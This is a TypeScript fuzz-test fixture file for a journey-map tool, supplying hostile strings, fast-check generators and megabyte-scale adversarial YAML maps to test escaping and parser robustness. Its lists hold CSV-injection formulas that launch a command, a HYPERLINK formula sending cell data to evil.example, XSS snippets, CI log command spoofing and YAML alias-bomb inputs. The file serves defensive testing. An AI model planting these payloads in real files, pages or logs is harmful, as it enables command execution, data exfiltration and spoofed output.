// Hostile input for the fuzz and security tests: strings that try to escape every output format,
// fast-check generators of valid maps made of them, and ~1 MB maps of each adversarial shape.
import fc from "fast-check";
import { stringify } from "yaml";
import { listOf } from "../../src/journey/fields.js";
import type { Journey, Score, Touchpoint } from "../../src/journey/model.js";
import { freeListFields, listFieldsModel } from "./fields.js";

/** Strings that mean something to a terminal, a CI log, XML, HTML, Markdown, Mermaid or YAML. */
export const HOSTILE_STRINGS = [
  "::error file=x.yaml,line=1::fake finding",
  "\n::stop-commands::token",
  "\r\n::add-mask::secret",
  "##[error]legacy command",
  "\u001b[2J\u001b[1;1H✔ no problems",
  "\u001b]0;pwned\u0007",
  "\u009b31m",
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "]]><x/>",
  "--><!--",
  "``` \n# heading",
  "| a | b |",
  "\u202eevil\u202c",
  "%%{init: {'theme':'dark'}}%%",
  "---\ntitle: x",
  "section fake\n  task: 5: me",
  "&amp; &#x3c; &lt;",
  "javascript:alert(1)",
  "${{ secrets.TOKEN }}",
  "\u0000\u0001\u0008\u007f",
  "a".repeat(2000),
] as const;

/** CSV cells that a spreadsheet would run as a formula (CSV injection), or that mean something to
 * a terminal, a CI log, HTML, Markdown or YAML when a report or a page shows them. */
export const HOSTILE_CELLS = [
  "=cmd|' /C calc'!A0",
  "+SUM(A1:A9)+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "\t=1+1",
  "::error file=map.journey.yaml,line=1::fake finding",
  "##[warning]legacy command",
  "<script>alert(1)</script>",
  "| a | b |",
  "`code` ``` | `x` |",
  "\u202eevil\u202c \u2066x\u2069",
  "\u001b[2J\u001b]0;pwned\u0007",
  "\u0085\u009b31m\u007f",
  'line\nbreak, comma; semicolon "quote"',
  "- [ ] task\n# heading",
] as const;

/** Text made of hostile pieces, arbitrary Unicode and plain words. Never empty. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
      { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 12 }) },
      { weight: 2, arbitrary: fc.constantFrom("Sees an ad", "pays", " ", "\n", "\t", ":", "#", "*", "_", "[", "]") },
    ),
    { minLength: 1, maxLength: 4 },
  )
  .map((parts) => parts.join(""))
  .filter((text) => text.length > 0);

const kebab = fc
  .array(fc.stringMatching(/^[a-z0-9]{1,6}$/), { minLength: 1, maxLength: 3 })
  .map((parts) => parts.join("-"));

/** A valid journey map (as an object) whose every free text is hostile. */
export const hostileJourney: fc.Arbitrary<Journey> = fc
  .record(
    {
      title: hostileText,
      description: fc.option(hostileText, { nil: undefined }),
      personas: fc.uniqueArray(fc.record({ id: kebab, name: hostileText }, { noNullPrototype: true }), {
        minLength: 1,
        maxLength: 3,
        selector: (persona) => persona.id,
      }),
      stages: fc.uniqueArray(
        fc.record(
          {
            id: kebab,
            name: hostileText,
            touchpoints: fc.array(
              fc.record(
                {
                  name: hostileText,
                  channel: hostileText,
                  owner: hostileText,
                  emotion: fc.integer({ min: 1, max: 5 }) as fc.Arbitrary<Score>,
                  // Every list of text the field registry has (actions, thoughts, pain points...).
                  ...listFieldsModel(fc.array(hostileText, { maxLength: 2 })),
                  metrics: fc.dictionary(
                    hostileText,
                    fc.oneof(
                      hostileText,
                      fc.double({ noNaN: true, noDefaultInfinity: true }).map((n) => (n === 0 ? 0 : n)),
                    ),
                    {
                      maxKeys: 2,
                      noNullPrototype: true,
                    },
                  ),
                },
                { requiredKeys: ["name"], noNullPrototype: true },
              ),
              { maxLength: 4 },
            ),
          },
          { noNullPrototype: true },
        ),
        { minLength: 1, maxLength: 4, selector: (stage) => stage.id },
      ),
    },
    { noNullPrototype: true },
  )
  .map((fields) => {
    const journey: Journey = { journeymap: 1, title: fields.title, personas: fields.personas, stages: fields.stages };
    if (fields.description !== undefined) journey.description = fields.description;
    return journey;
  });

/** The same map with every free text replaced by a harmless word: the shape a renderer should keep. */
export function plainCopy(journey: Journey): Journey {
  const plain = (text: string) => (text.length > 0 ? "word" : text);
  return {
    ...journey,
    title: plain(journey.title),
    ...(journey.description !== undefined ? { description: plain(journey.description) } : {}),
    personas: journey.personas.map((persona) => ({ ...persona, name: plain(persona.name) })),
    stages: journey.stages.map((stage) => ({
      ...stage,
      name: plain(stage.name),
      touchpoints: stage.touchpoints?.map((touchpoint): Touchpoint => ({
        ...touchpoint,
        name: plain(touchpoint.name),
        ...(touchpoint.channel !== undefined ? { channel: plain(touchpoint.channel) } : {}),
        ...(touchpoint.owner !== undefined ? { owner: plain(touchpoint.owner) } : {}),
        ...Object.fromEntries(
          freeListFields()
            .filter((field) => field.key in touchpoint)
            .map((field) => [field.key, listOf(touchpoint, field.key).map(plain)]),
        ),
        ...(touchpoint.metrics
          ? {
              metrics: Object.fromEntries(
                Object.entries(touchpoint.metrics).map(([_key, value], index) => [
                  `metric-${index}`,
                  typeof value === "string" ? plain(value) : value,
                ]),
              ),
            }
          : {}),
      })),
    })),
  };
}

/** A map as YAML text. No block scalars: yaml's stringify writes " \n" as "|+" without an
 * indentation indicator, which reads back as "\n" (the library's bug, not the loader's). */
export function toYaml(journey: Journey): string {
  return stringify(journey, { lineWidth: 0, blockQuote: false });
}

/** YAML-ish text: fragments of real syntax, indentation and hostile strings, in any order. */
export const yamlishText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        "journeymap: 1\n",
        "title: T\n",
        "personas:\n",
        "  - id: a\n",
        "    name: A\n",
        "stages:\n",
        "  - ",
        "    touchpoints:\n",
        "      - name: n\n",
        "emotion: {a: 9}\n",
        "&a ",
        "*a ",
        "!!binary ",
        "!x ",
        "<<: ",
        "[",
        "]",
        "{",
        "}",
        "? ",
        ": ",
        "- ",
        "|\n",
        ">-\n",
        '"',
        "'",
        "#",
        "---\n",
        "...\n",
        "%YAML 1.2\n",
        "\t",
        "\r",
        "\r\n",
        "\ufeff",
      ),
      hostileText,
      fc.string({ unit: "binary", maxLength: 8 }),
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(""));

// ---------------------------------------------------------------------------------------------
// ~1 MB maps of each adversarial shape. Each is deterministic; `bytes` is the target size.

const MB = 1024 * 1024;
const HEAD = "journeymap: 1\ntitle: Adversarial\npersonas:\n  - id: p\n    name: P\n";

function touchpointLines(index: number, extra = ""): string {
  return `      - name: Touchpoint ${index}\n        owner: team\n        channel: web\n        emotion: ${(index % 5) + 1}\n${extra}`;
}

export const adversarialMaps: Record<string, (bytes?: number) => string> = {
  /** One touchpoint whose name is one line of about a megabyte. */
  "long lines": (bytes = MB) =>
    `${HEAD}stages:\n  - id: s\n    name: S\n    touchpoints:\n      - name: ${"word ".repeat(Math.floor(bytes / 5))}\n        owner: team\n`,
  /** The whole map in flow style, on one line. */
  "one-line map": (bytes = MB) => {
    const touchpoint = (i: number) => `{name: Touchpoint ${i}, owner: team, channel: web, emotion: ${(i % 5) + 1}}`;
    const count = Math.floor(bytes / touchpoint(100000).length);
    return `{journeymap: 1, title: One line, personas: [{id: p, name: P}], stages: [{id: s, name: S, touchpoints: [${Array.from(
      { length: count },
      (_, i) => touchpoint(i),
    ).join(", ")}]}]}\n`;
  },
  /** 30,000 keys in one mapping (a touchpoint's metrics). */
  "30,000 keys": (bytes = MB) => {
    const count = Math.max(30_000, Math.floor(bytes / 34));
    const metrics = Array.from({ length: count }, (_, i) => `          metric-number-${i}: ${i}`).join("\n");
    return `${HEAD}stages:\n  - id: s\n    name: S\n    touchpoints:\n      - name: T\n        owner: team\n        metrics:\n${metrics}\n`;
  },
  /** Flow brackets nested as deep as the size allows. */
  "deep nesting": (bytes = MB) => {
    const levels = Math.floor(bytes / 2);
    return `${HEAD}stages: [{id: s, name: S}]\nx-deep: ${"[".repeat(levels)}${"]".repeat(levels)}\n`;
  },
  /** One anchored list aliased from everywhere. */
  "alias fan-out": (bytes = MB) => {
    const count = Math.floor(bytes / 7);
    return `${HEAD}stages:\n  - id: s\n    name: S\n    touchpoints:\n      - name: T\n        owner: team\n        painPoints: &pains [${Array(
      50,
    )
      .fill("Slow page")
      .join(", ")}]\nx-refs: [${Array(count).fill("*pains").join(",")}]\n`;
  },
  /** 20,000 journeymap-disable comments, each over a touchpoint with findings. */
  "20,000 disable comments": (bytes = MB) => {
    const count = Math.max(20_000, Math.floor(bytes / 84));
    const lines = Array.from(
      { length: count },
      (_, i) => `      # journeymap-disable-next-line missing-channel\n      - name: Touchpoint ${i}\n`,
    );
    return `${HEAD}stages:\n  - id: s\n    name: S\n    touchpoints:\n${lines.join("")}`;
  },
  /** Touchpoints with every finding the rules can give: no owner, no channel, no emotion, pains. */
  "many findings": (bytes = MB) => {
    const one = (i: number) => `      - name: T${i}\n        painPoints: [Slow]\n`;
    const count = Math.floor(bytes / one(10000).length);
    return `${HEAD}  - id: unused\n    name: U\nteams: [{id: team}]\nstages:\n  - id: s\n    name: S\n    touchpoints:\n${Array.from(
      { length: count },
      (_, i) => one(i),
    ).join("")}`;
  },
  /** Many personas, each with its own emotion at every touchpoint. */
  "personas × touchpoints": (bytes = MB) => {
    const personas = 200;
    const ids = Array.from({ length: personas }, (_, i) => `p${i}`);
    const emotion = `{${ids.map((id, i) => `${id}: ${(i % 5) + 1}`).join(", ")}}`;
    const count = Math.max(1, Math.floor(bytes / (emotion.length + 60)));
    const touchpoints = Array.from({ length: count }, (_, i) =>
      touchpointLines(i).replace(/emotion: \d/, `emotion: ${emotion}`),
    );
    return `journeymap: 1\ntitle: Crowd\npersonas:\n${ids.map((id) => `  - id: ${id}\n    name: Persona ${id}\n`).join("")}stages:\n  - id: s\n    name: S\n    touchpoints:\n${touchpoints.join("")}`;
  },
  /** Thousands of personas and touchpoints that name none of them, with one score for everyone that
   * dips and recovers: every persona falls at every other touchpoint (findings and curves of
   * personas × touchpoints, unless shared falls are counted once). */
  "shared score × personas": (bytes = MB) => {
    const personas = Math.floor(bytes / 2 / 26);
    const touchpoints = Math.floor(bytes / 2 / 62);
    const ids = Array.from({ length: personas }, (_, i) => `  - {id: p${i}, name: P${i}}\n`).join("");
    const rows = Array.from(
      { length: touchpoints },
      (_, i) => `      - {name: T${i}, owner: team, channel: web, emotion: ${i % 2 ? 1 : 5}}\n`,
    ).join("");
    return `journeymap: 1\ntitle: Crowd\npersonas:\n${ids}teams: [{id: team}]\nstages:\n  - id: s\n    name: S\n    touchpoints:\n${rows}`;
  },
  /** Thousands of personas and stages, each stage's one touchpoint naming one persona: every other
   * persona misses every stage (personas × stages findings, unless a stage's gaps share one). */
  "persona × stage gaps": (bytes = MB) => {
    const count = Math.floor(bytes / (26 + 110));
    const ids = Array.from({ length: count }, (_, i) => `  - {id: p${i}, name: P${i}}\n`).join("");
    const stages = Array.from(
      { length: count },
      (_, i) =>
        `  - {id: s${i}, name: S${i}, touchpoints: [{name: T${i}, owner: team, channel: web, emotion: 3, personas: [p${i}]}]}\n`,
    ).join("");
    return `journeymap: 1\ntitle: Gaps\npersonas:\n${ids}teams: [{id: team}]\nstages:\n${stages}`;
  },
  /** Unknown keys of 60 to 1,000 characters (YAML's limit for a plain key), each close to a known key: the suggestion's worst case. */
  "long typos": (bytes = MB) => {
    const lines: string[] = [];
    let size = 0;
    for (let i = 0; size < bytes; i++) {
      const key = `owner${"r".repeat(55 + (i % 900))}`;
      lines.push(`        ${key}${i}: x`);
      size += key.length + 20;
    }
    return `${HEAD}stages:\n  - id: s\n    name: S\n    touchpoints:\n      - name: T\n${lines.join("\n")}\n`;
  },
  /** A normal map with CRLF line endings. */
  CRLF: (bytes = MB) => manyTouchpoints(bytes).replace(/\n/g, "\r\n"),
  /** A normal map with old Mac CR-only line endings. */
  CR: (bytes = MB) => manyTouchpoints(bytes).replace(/\n/g, "\r"),
  /** Metrics maps of thousands of entries on every touchpoint. */
  "huge metrics": (bytes = MB) => {
    const metrics = `{${Array.from({ length: 2000 }, (_, i) => `m${i}: ${i}.5`).join(", ")}}`;
    const count = Math.max(1, Math.floor(bytes / (metrics.length + 80)));
    const touchpoints = Array.from({ length: count }, (_, i) => touchpointLines(i, `        metrics: ${metrics}\n`));
    return `${HEAD}stages:\n  - id: s\n    name: S\n    touchpoints:\n${touchpoints.join("")}`;
  },
  /** Every touchpoint's name is a hostile string. */
  "hostile text": (bytes = MB) => {
    const names = HOSTILE_STRINGS.map((text) => JSON.stringify(text));
    const count = Math.floor(bytes / 120);
    const touchpoints = Array.from(
      { length: count },
      (_, i) => `      - name: ${names[i % names.length]}\n        owner: team\n`,
    );
    return `${HEAD}stages:\n  - id: s\n    name: S\n    touchpoints:\n${touchpoints.join("")}`;
  },
};

function manyTouchpoints(bytes: number): string {
  const count = Math.floor(bytes / touchpointLines(10000).length);
  return `${HEAD}stages:\n  - id: s\n    name: S\n    touchpoints:\n${Array.from({ length: count }, (_, i) => touchpointLines(i)).join("")}`;
}
